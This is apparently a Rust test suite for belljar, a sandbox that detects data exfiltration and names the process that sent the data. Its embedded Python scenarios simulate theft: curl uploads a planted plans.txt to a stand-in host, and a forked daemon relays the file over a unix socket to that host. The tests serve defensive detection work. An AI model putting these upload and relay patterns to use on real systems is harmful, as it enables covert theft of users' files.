//! Who sent, where it is made hard: two copies of one program, helpers that are handed the bytes,
//! process numbers that are used again.
//!
//! Cannot see: which of two processes that share one socket sent.

use belljar_tests::{Belljar, fresh_seed, made, skip};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::Command;

fn list<'a>(verdict: &'a Value, path: &[&str]) -> &'a [Value] {
    let value = path.iter().fold(verdict, |value, key| &value[*key]);
    value.as_array().unwrap_or_else(|| panic!("{path:?} is no list"))
}

/// The findings that something was sent: who sent it, and to which host.
fn senders(verdict: &Value) -> Vec<&Value> {
    list(verdict, &["findings"]).iter().filter(|finding| finding["kind"] == "sent").collect()
}

fn process<'a>(verdict: &'a Value, pid: &Value) -> &'a Value {
    list(verdict, &["processes", "rows"])
        .iter()
        .find(|row| row["pid"] == *pid)
        .unwrap_or_else(|| panic!("process {pid} is not in the tree"))
}

/// Processes that read planted files.
fn readers(belljar: &Belljar) -> BTreeSet<u64> {
    belljar
        .record()
        .iter()
        .filter(|line| line["event"]["act"]["op"] == "read" && !line["event"]["decoy"].is_null())
        .filter_map(|line| line["actor"]["native"]["process"]["pid"].as_u64())
        .collect()
}

#[test]
fn of_two_identical_programs_the_one_that_leaks_is_named() {
    const CURL: &str = "/usr/bin/curl";
    if !Path::new(CURL).exists() {
        skip!("curl is not installed");
    }
    let mut belljar = made::made(
        fresh_seed(),
        &made::scenario("", ""),
        "\
scan()
import subprocess
home = sys.argv[1]
one = ['/opt/one/send', '-sS', '-o', '/dev/null', 'http://files.storage.example/check']
two = ['/opt/two/send', '-sS', '-o', '/dev/null', '-T', home + '/plans.txt', 'http://files.storage.example/']
running = [subprocess.Popen(command) for command in (one, two, one)]
for process in running: process.wait()",
    );
    let component = belljar.folder().join("made-component.toml");
    let text = std::fs::read_to_string(&component).expect("is there");
    let copies = ["one", "two"]
        .map(|name| format!(r#"{{ host = "{CURL}", inside = "/opt/{name}/send" }}"#))
        .join(", ");
    std::fs::write(&component, text.replace("files = [", &format!("files = [{copies}, ")))
        .expect("can be written");
    let ended = belljar.end();
    assert_eq!(ended.code, 1, "a document left");
    let verdict = belljar.verdict();
    let found = senders(&verdict);
    assert!(!found.is_empty());
    for finding in found {
        assert_eq!(finding["who"]["program"], "/opt/two/send", "{finding}");
    }
    let flows = list(&verdict, &["egress", "flows", "rows"]);
    let by = |program: &str| {
        let http = flows.iter().filter(|flow| flow["transport"] == "TCP");
        http.filter(|flow| flow["who"]["program"] == program).count()
    };
    assert_eq!((by("/opt/one/send"), by("/opt/two/send")), (2, 1), "each by its own copy");
}

#[test]
fn a_helper_that_is_handed_the_bytes_is_named_as_the_sender_and_its_parent_as_the_reader() {
    let mut belljar = Belljar::run("contractor-laptop", fresh_seed(), &["--profile", "helper"]);
    assert_eq!(belljar.end().code, 1, "the archive left");
    let verdict = belljar.verdict();
    let readers = readers(&belljar);
    let found = senders(&verdict);
    assert!(!found.is_empty());
    for finding in found {
        let helper = process(&verdict, &finding["who"]["pid"]);
        assert!(helper["command"].as_str().is_some_and(|line| line.contains(" send ")), "{helper}");
        let parent = process(&verdict, &helper["parent"]);
        assert!(parent["command"].as_str().is_some_and(|line| line.contains(" scan ")), "{parent}");
        let reader = parent["pid"].as_u64().expect("a number");
        assert!(readers.contains(&reader), "{reader} is not among {readers:?}");
    }
}

#[test]
fn a_daemon_that_gets_the_bytes_by_a_unix_socket_is_named_as_the_sender() {
    let mut belljar = made::made(
        fresh_seed(),
        &made::scenario("", ""),
        "\
import socket
ends = socket.socket(socket.AF_UNIX), '/tmp/relay.sock'
ends[0].bind(ends[1]); ends[0].listen(1)
if os.fork() == 0:
    # The daemon: a session of its own, reads no planted file.
    os.setsid()
    there = ends[0].accept()[0]
    body = b''
    while (piece := there.recv(65536)): body += piece
    out = socket.create_connection(('files.storage.example', 8000))
    out.sendall(body); out.shutdown(1)
    while out.recv(65536): pass
    os._exit(0)
scan()
relay = socket.socket(socket.AF_UNIX); relay.connect(ends[1])
relay.sendall(open(sys.argv[1] + '/plans.txt', 'rb').read()); relay.close()
os.wait()",
    );
    assert_eq!(belljar.end().code, 1, "a document left");
    let verdict = belljar.verdict();
    let readers = readers(&belljar);
    assert_eq!(readers.len(), 1);
    let found = senders(&verdict);
    assert!(!found.is_empty());
    for finding in found {
        let sender = finding["who"]["pid"].as_u64().expect("a number");
        assert!(!readers.contains(&sender), "the reader did not send itself");
        let parent = process(&verdict, &finding["who"]["pid"])["parent"].as_u64();
        assert!(parent.is_some_and(|parent| readers.contains(&parent)));
    }
}

/// A limit of process numbers counts only inside its pid namespace since Linux 6.14. So belljar
/// itself runs in one in which numbers are used again after a few hundred processes.
#[test]
fn process_numbers_that_are_used_again_are_never_taken_for_the_old_process() {
    const SENDERS: usize = 1500;
    const MOST_NUMBERS: u32 = 400;
    let host_limit = || std::fs::read_to_string("/proc/sys/kernel/pid_max").expect("is there");
    let before = host_limit();
    let small = format!("echo {MOST_NUMBERS} > /proc/sys/kernel/pid_max && echo $$");
    let works = Command::new("unshare")
        .args(["--pid", "--fork", "--mount-proc", "sh", "-c", &small])
        .output()
        .is_ok_and(|output| output.status.success());
    if host_limit() != before {
        let _ = std::fs::write("/proc/sys/kernel/pid_max", &before);
        skip!("the limit of process numbers is the whole host's here (before Linux 6.14)");
    }
    if !works {
        skip!("no pid namespace with a limit of its own can be made here");
    }
    let mut belljar = made::made(
        fresh_seed(),
        &made::scenario("", ""),
        &format!(
            "\
scan()
import socket
# The jar's clock of uptime is days ahead of the host's.
ahead = [int(line.split()[1]) for line in open('/proc/self/timens_offsets') if 'boottime' in line]
ahead = sum(ahead) * os.sysconf('SC_CLK_TCK')
for n in range({SENDERS}):
    pid = os.fork()
    if pid == 0:
        start = int(open('/proc/self/stat').read().rsplit(')', 1)[1].split()[19]) - ahead
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.51.100.77', 20000 + n))
        os.write(1, f'{{20000 + n}} {{start}}\\n'.encode())
        os._exit(0)
    os.waitpid(pid, 0)"
        ),
    );
    let program = belljar.command.get_program().to_owned();
    let arguments: Vec<_> = belljar.command.get_args().map(ToOwned::to_owned).collect();
    let mut inside = Command::new("unshare");
    inside
        .args(["--pid", "--fork", "--mount-proc", "sh", "-c"])
        .arg(format!("echo {MOST_NUMBERS} > /proc/sys/kernel/pid_max && exec \"$0\" \"$@\""))
        .arg(program)
        .args(arguments)
        .current_dir(belljar.folder());
    belljar.command = inside;
    belljar.end();
    let record = belljar.record();
    let mut expected = BTreeMap::<u64, u64>::new();
    for line in &record {
        let event = &line["event"];
        if event["kind"] == "payload" && event["label"] == "stdout" {
            let digest = event["payload"]["sha256"].as_str().expect("a digest");
            let printed = std::fs::read_to_string(belljar.bundle().join("payloads").join(digest));
            for line in printed.expect("is kept").lines() {
                let (port, start) = line.split_once(' ').expect("two numbers");
                let [port, start] = [port, start].map(|text| text.parse().expect("a number"));
                expected.insert(port, start);
            }
        }
    }
    assert_eq!(expected.len(), SENDERS, "each sender has said who it is");
    let mut starts = BTreeMap::<u64, BTreeSet<u64>>::new();
    let mut named = 0;
    for line in record.iter().filter(|line| line["event"]["kind"] == "flow-opened") {
        let port = line["event"]["remote"]["port"].as_u64().expect("a number");
        let Some(&start) = expected.get(&port) else { continue };
        let process = &line["actor"]["native"]["process"];
        assert_eq!(process["start"].as_u64(), Some(start), "port {port}: {}", line["actor"]);
        starts.entry(process["pid"].as_u64().expect("a number")).or_default().insert(start);
        named += 1;
    }
    let again = starts.values().filter(|starts| starts.len() > 1).count();
    println!("{named} senders named, {} numbers, {again} of them used again", starts.len());
    assert_eq!(named, SENDERS);
    // Numbers begin again at 300.
    assert!(again >= 50, "numbers were not used again, so nothing is shown");
}
